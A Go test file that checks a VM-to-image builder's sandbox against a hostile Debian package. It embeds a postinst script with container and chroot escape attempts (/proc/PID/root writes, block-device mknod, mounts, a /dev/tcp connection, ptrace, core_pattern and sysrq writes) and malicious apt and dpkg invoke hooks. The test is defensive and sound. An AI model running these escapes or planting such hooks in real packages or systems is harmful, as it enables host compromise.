package builder

import (
	"archive/tar"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vm2image/vm2image/internal/testenv"
	"github.com/vm2image/vm2image/pkg/pkgmgr"
)

// evilPostinst is the maintainer script of a hostile package: it tries to reach the converter
// host every way a root process in a chroot could, and records how each attempt went in the
// build root (@DIR@: a host directory to write the marker in and to read a secret from; @NET@
// and @PORT@: a listener of the host; @PID@: the test's process, which PTRACE_SEIZE does not
// stop).
const evilPostinst = `#!/bin/bash
R=/var/lib/vm2image-attack/results
mkdir -p /var/lib/vm2image-attack
try() { n=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$n succeeded" >>$R; else echo "$n failed" >>$R; fi; }
try proc1-root-write sh -c 'echo pwned >/proc/1/root@DIR@/marker'
try ppid-root-write sh -c 'echo pwned >/proc/$PPID/root@DIR@/marker'
try proc-walk-write sh -c 'for p in /proc/[0-9]*; do echo pwned >$p/root@DIR@/marker && exit 0; done; exit 1'
try proc-walk-read sh -c 'for p in /proc/[0-9]*; do grep -q hostsecret $p/root@DIR@/secret && exit 0; done; exit 1'
try mknod-block sh -c 'mknod /tmp/blk b 8 0 || mknod /tmp/blk b 259 0 || mknod /tmp/blk b 253 0'
try dev-block-read sh -c 'for d in $(find /dev -type b); do head -c 1 $d | grep -q . && exit 0; done; exit 1'
try mount-tmpfs mount -t tmpfs none /mnt
try mount-bind mount --bind /proc /mnt
try net-connect bash -c 'exec 3<>/dev/tcp/@NET@/@PORT@ && echo escaped >&3'
try ptrace-host perl -e 'exit(syscall(101, 0x4206, @PID@, 0, 0) == -1 ? 1 : 0)'
try cap-sys-admin bash -c 'e=$(sed -n "s/^CapEff:\t//p" /proc/self/status); (( (0x$e >> 21) & 1 ))'
try core-pattern-write sh -c 'cat /proc/sys/kernel/core_pattern >/tmp/cp && cat /tmp/cp >/proc/sys/kernel/core_pattern'
try sysrq-write sh -c 'echo h >/proc/sysrq-trigger'
try archives-write sh -c 'echo x >>/var/cache/apt/archives/lock'
exit 0
`

// attempts are the names evilPostinst records.
var attempts = []string{"proc1-root-write", "ppid-root-write", "proc-walk-write", "proc-walk-read", "mknod-block",
	"dev-block-read", "mount-tmpfs", "mount-bind", "net-connect", "ptrace-host", "cap-sys-admin",
	"core-pattern-write", "sysrq-write", "archives-write"}

// hostileAptConf are hooks a VM's apt configuration could hold; FilterConfig drops them.
const hostileAptConf = `APT::Update::Pre-Invoke { "echo pwned >/proc/1/root@DIR@/marker; for p in /proc/[0-9]*; do echo pwned >$p/root@DIR@/marker; done"; };
DPkg::Pre-Invoke { "echo pwned >/proc/1/root@DIR@/marker"; };
`

// TestBuildContainsHostilePackage installs a package whose postinst attacks the host, with a
// VM configuration full of hooks, in each backend: every attempt must fail, nothing may appear
// on the host, nothing may connect to the host's listener, and the hooks must be reported. The
// plain chroot of before, run the same way, lets the attack through: the test can fail.
func TestBuildContainsHostilePackage(t *testing.T) {
	testenv.Short(t)
	testenv.RequireRoot(t)
	baseRoot := testenv.Root(t, baseRecipe)
	base, err := pkgmgr.ReadDpkg(baseRoot)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, backend string
		plain         bool
	}{{"sandbox", Chroot, false}, {"docker", Docker, false}, {"plain chroot baseline", Chroot, true}} {
		t.Run(tc.name, func(t *testing.T) {
			host := "127.0.0.1"
			in := Input{BaseRoot: baseRoot, BaseDigest: "sha256:" + testenv.RootID(baseRecipe), Base: base}
			if tc.backend == Docker {
				in.BaseImage = importBase(t, baseRoot)
				host = bridgeAddr(t)
			}
			hostDir := t.TempDir()
			if err := os.WriteFile(filepath.Join(hostDir, "secret"), []byte("hostsecret\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			var connections atomic.Int32
			ln, err := net.Listen("tcp", host+":0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					connections.Add(1)
					c.Close()
				}
			}()
			_, port, _ := net.SplitHostPort(ln.Addr().String())
			repl := strings.NewReplacer("@DIR@", hostDir, "@NET@", host, "@PORT@", port, "@PID@", fmt.Sprint(os.Getpid()))
			url := testenv.DebRepo(t, host+":0", testenv.Deb{Name: "vm2image-evil", Version: "1.0", Postinst: repl.Replace(evilPostinst)})
			res, root := buildEvil(t, in, tc.backend, tc.plain, url, repl)
			_, markerErr := os.Stat(filepath.Join(hostDir, "marker"))
			results := readResults(t, res, root)
			t.Logf("attempts: %q; connections to the host: %d", results, connections.Load())
			if tc.plain {
				if markerErr != nil || !slices.Contains(results, "proc-walk-write succeeded") || !slices.Contains(results, "archives-write succeeded") {
					t.Fatalf("the plain chroot stopped the attack (marker: %v): the attack is broken", markerErr)
				}
				return
			}
			if !errors.Is(markerErr, os.ErrNotExist) {
				t.Errorf("the marker exists on the host (%v)", markerErr)
			}
			if n := connections.Load(); n != 0 {
				t.Errorf("%d connections reached the host's listener", n)
			}
			for _, a := range attempts {
				if a == "archives-write" && tc.backend == Docker {
					// The engine cannot make a bind read-only for one exec: the docker
					// backend's archive directory stays writable (pkg/builder/README.md).
					continue
				}
				if !slices.Contains(results, a+" failed") {
					t.Errorf("attempt %s did not fail: %q", a, results)
				}
			}
			var dropped []string
			for _, d := range res.ConfigDropped {
				dropped = append(dropped, d.String())
			}
			for _, want := range []string{"/etc/apt/apt.conf.d/99evil: APT::Update::Pre-Invoke", "/etc/apt/apt.conf.d/99evil: DPkg::Pre-Invoke"} {
				if !slices.Contains(dropped, want) {
					t.Errorf("ConfigDropped %q lacks %q", dropped, want)
				}
			}
		})
	}
}

// buildEvil builds the hostile package into the base and returns the result and, for the
// chroot backend, the built root (valid until the test ends).
func buildEvil(t *testing.T, in Input, backend string, plain bool, url string, repl *strings.Replacer) (*Result, string) {
	t.Helper()
	vm := &pkgmgr.DB{Manager: pkgmgr.Dpkg, Packages: append(slices.Clone(in.Base.Packages),
		pkgmgr.Package{Name: "vm2image-evil", Version: "1.0", Arch: "all", Status: "install ok installed"})}
	no := false
	plan, err := pkgmgr.NewPlan(vm, in.Base, pkgmgr.OSInfo{ID: "debian", VersionID: "12"}, pkgmgr.PlanOptions{Recommends: &no})
	if err != nil {
		t.Fatal(err)
	}
	in.VM, in.Plan = vm, plan
	in.RepoFiles = map[string][]byte{
		"/etc/apt/sources.list":       []byte("deb [trusted=yes] " + url + " ./\n"),
		"/etc/apt/apt.conf.d/99evil":  []byte(repl.Replace(hostileAptConf)),
		"/etc/dpkg/dpkg.cfg.d/99evil": []byte(repl.Replace("post-invoke=sh -c 'echo pwned >/proc/1/root@DIR@/marker'\n")),
	}
	opts := testOptions(t, backend)
	opts.unsandboxed = plain
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	res, cleanup, err := Build(ctx, in, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cleanup() })
	if len(res.Errors) > 0 {
		t.Logf("build errors: %q", res.Errors)
	}
	return res, res.Root
}

// readResults reads the attempts' outcomes from the packages layer.
func readResults(t *testing.T, res *Result, _ string) []string {
	t.Helper()
	f, err := os.Open(res.LayerPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := tar.NewReader(f)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			t.Fatal("the layer holds no results: the hostile package was not installed")
		}
		if err != nil {
			t.Fatal(err)
		}
		if strings.TrimPrefix(h.Name, "./") == "var/lib/vm2image-attack/results" {
			b, err := io.ReadAll(tr)
			if err != nil {
				t.Fatal(err)
			}
			return strings.Split(strings.TrimSpace(string(b)), "\n")
		}
	}
}

// bridgeAddr is the host's address on the engine's default bridge, which its containers reach.
func bridgeAddr(t *testing.T) string {
	t.Helper()
	ifc, err := net.InterfaceByName("docker0")
	if err != nil {
		t.Fatalf("finding the engine's bridge: %v", err)
	}
	addrs, _ := ifc.Addrs()
	for _, a := range addrs {
		if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil {
			return ip.IP.String()
		}
	}
	t.Fatal("the engine's bridge docker0 has no IPv4 address")
	return ""
}
